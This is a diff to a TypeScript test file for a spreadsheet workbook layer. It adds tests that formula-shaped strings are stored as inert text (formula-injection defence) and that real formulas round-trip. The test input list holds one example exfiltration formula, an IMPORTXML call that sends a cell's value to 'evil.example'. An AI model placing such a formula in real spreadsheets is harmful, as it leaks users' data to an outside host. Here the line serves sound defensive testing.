@@ -7,7 +7,7 @@
 import { mkdtempSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
-import type { Cell, WorkbookPort } from '../../src/core/workbook/port';
+import { type Cell, formula, isFormula, type WorkbookPort } from '../../src/core/workbook/port';
 import { SpreadsheetWorkbook } from '../../src/gas/spreadsheet-workbook';
 import { XlsxWorkbook } from '../../src/xlsx/xlsx-workbook';
 import { FakeEnvironment } from '../fakes/spreadsheet-app';
@@ -85,8 +85,24 @@ const CELLS: Cell[][] = [
   ['Kode', 'Penjelasan', 'Tingkat', 'Aktif'],
   ['I01', 'Ditetapkan 2026-02-10 dengan Perwali.', 3, true],
   ['I02', '2026-02-10', '1,5', '13,14'],
-  ['I03', '=B2', 'TRUE', "'awal kutip"],
+  ['I03', formula('=B2'), 'TRUE', "'awal kutip"],
 ];
+
+/** Text that a spreadsheet would run, were it written as typed (R14). */
+const FORMULA_SHAPED = [
+  '=IMPORTXML("https://evil.example/"&A1;"//a")',
+  '+62 812 3456',
+  '+A1',
+  '-A1+1',
+  '@SUM(A1)',
+  "'=1+1",
+  ' =1+1',
+];
+
+/** Cells with each formula as its text alone (a read also says what it showed). */
+function plain(cells: readonly (readonly Cell[])[] | undefined) {
+  return cells?.map((r) => r.map((c) => (isFormula(c) ? { formula: c.text } : c)));
+}
 
 describe.each(IMPLEMENTATIONS)('the Workbook port: %s', (_, make) => {
   it('has no tab it was not given, and reads a missing tab as undefined', () => {
@@ -100,7 +116,32 @@ describe.each(IMPLEMENTATIONS)('the Workbook port: %s', (_, make) => {
     s.wb.ensureTab('Uji', 'spbe:uji');
     expect(s.wb.write('Uji', { cells: CELLS })).toBe(true);
     const again = await s.reopen();
-    expect(again.wb.read('Uji')?.cells).toEqual(CELLS);
+    expect(plain(again.wb.read('Uji')?.cells)).toEqual(plain(CELLS));
+  });
+
+  it('writes a string as text whatever it starts with, through every way of writing (R14)', async () => {
+    const s = make();
+    s.wb.ensureTab('Uji', 'spbe:uji');
+    s.wb.write('Uji', { cells: [FORMULA_SHAPED] });
+    s.wb.writeCells('Uji', 2, 1, [FORMULA_SHAPED]);
+    s.wb.append('Uji', [FORMULA_SHAPED]);
+    const again = await s.reopen();
+    const cells = again.wb.read('Uji')?.cells ?? [];
+    expect(cells).toEqual([FORMULA_SHAPED, FORMULA_SHAPED, FORMULA_SHAPED]);
+    expect(cells.flat().some(isFormula)).toBe(false);
+  });
+
+  it('reads a formula back as the same formula, in whatever spelling it keeps it (R18)', async () => {
+    const s = make();
+    s.wb.ensureTab('Uji', 'spbe:uji');
+    s.wb.ensureTab('Data lain', 'spbe:data');
+    s.wb.write('Data lain', { cells: [[2]] });
+    const written = [[formula("=if('Uji'!B1=\"\";'Data lain'!A1; sum('Uji'!B1))"), 5]];
+    s.wb.write('Uji', { cells: written });
+    const again = await s.reopen();
+    expect(isFormula(again.wb.read('Uji')?.cells[0]?.[0])).toBe(true);
+    // Setup writes what it plans; the same plan again writes nothing.
+    expect(again.wb.write('Uji', { cells: written })).toBe(false);
   });
 
   it('writes nothing when the content is the same, and reports a change otherwise', async () => {
